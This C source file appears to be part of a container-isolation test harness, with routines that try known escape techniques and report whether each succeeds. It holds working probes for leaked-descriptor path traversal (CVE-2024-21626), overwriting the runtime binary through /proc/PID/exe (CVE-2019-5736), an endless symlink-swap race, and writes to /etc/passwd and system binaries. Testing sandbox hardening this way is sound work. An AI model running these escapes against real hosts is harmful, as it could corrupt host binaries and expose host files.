/* Group 3: descriptors that were left open, and the way to a program by /proc/PID/exe. */
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* FILE: a file of the host. Every descriptor that came along is tried as a folder (CVE-2024-21626). */
static void kept(int argc, char **argv) {
  const char *file = argument(argc, argv, 1);
  char path[4096];
  int folders = 0;
  for (int fd = 0; fd < 4096; fd++) {
    struct stat what;
    if (fstat(fd, &what) < 0 || !S_ISDIR(what.st_mode)) continue;
    folders++;
    snprintf(path, sizeof path, "../../../../../../../../../..%s", file);
    tried("the host's file", openat(fd, path, O_RDONLY));
  }
  if (!folders) told("folders among the descriptors", "none");
}

/* FILE: a file of the host, from the working directory upwards and by each /proc/self/fd. */
static void working_dir(int argc, char **argv) {
  const char *file = argument(argc, argv, 1);
  char path[4096], where[1024];
  noted("in %s", getcwd(where, sizeof where) ? where : strerrorname_np(errno));
  snprintf(path, sizeof path, "../../../../../../../../../..%s", file);
  tried("upwards", open(path, O_RDONLY));
  for (int fd = 0; fd < 32; fd++) {
    snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../..%s", fd, file);
    tried("by /proc/self/fd", open(path, O_RDONLY));
  }
}

/* As CVE-2019-5736: the program that runs, or ran, opened for writing. */
static void exe(int argc, char **argv) {
  (void)argc, (void)argv;
  char path[64], again[64];
  const int processes[] = {1, getppid(), getpid()};
  for (int i = 0; i < 3; i++) {
    snprintf(path, sizeof path, "/proc/%d/exe", processes[i]);
    tried(path, open(path, O_WRONLY));
    int fd = open(path, O_PATH);
    if (fd < 0) continue;
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    for (int turn = 0; turn < 1000; turn++)
      if (open(again, O_WRONLY) >= 0) {
        told("written after all", "done");
        return;
      }
    tried("a thousand times by O_PATH", open(again, O_WRONLY | O_TRUNC));
    close(fd);
  }
}

/* Code and root are read-only for everybody inside. */
static void own_code(int argc, char **argv) {
  (void)argc, (void)argv;
  static const char *const files[] = {"/var/task/bootstrap", "/attack", "/etc/passwd", "/usr/bin/env", "/new"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    struct stat what;
    if (stat(files[i], &what) < 0 && strcmp(files[i], "/new") != 0) continue;
    tried(files[i], open(files[i], O_WRONLY | O_CREAT, 0644));
  }
}

/* FOLDER TARGET: exchanges FOLDER/a, a folder, and FOLDER/b, a link to TARGET, for ever. */
static void swap(int argc, char **argv) {
  const char *folder = argument(argc, argv, 1);
  char here[128], link[128], inner[160];
  snprintf(here, sizeof here, "%s/a", folder);
  snprintf(link, sizeof link, "%s/b", folder);
  snprintf(inner, sizeof inner, "%s/inner", here);
  mkdir(here, 0777);
  mkdir(inner, 0777);
  symlink(argument(argc, argv, 2), link);
  for (;;) renameat2(AT_FDCWD, here, AT_FDCWD, link, RENAME_EXCHANGE);
}

/* PATH…: files that a layer brought. What can be read must be the image's own. */
static void steal(int argc, char **argv) {
  char text[64];
  for (int i = 1; i < argc; i++) {
    int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
    ssize_t got = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (got < 0) {
      tried(argv[i], -1);
    } else {
      text[got] = 0;
      noted("%s reads '%s'", argv[i], text);
      told(argv[i], strstr(text, "canary") ? "done" : "own file");
    }
  }
}

const struct attack descriptors[] = {
    {"kept-descriptors", kept, 0},
    {"working-dir", working_dir, 0},
    {"steal", steal, 0},
    {"swap", swap, 1},
    {"proc-exe", exe, 0},
    {"write-code", own_code, 0},
    {0},
};
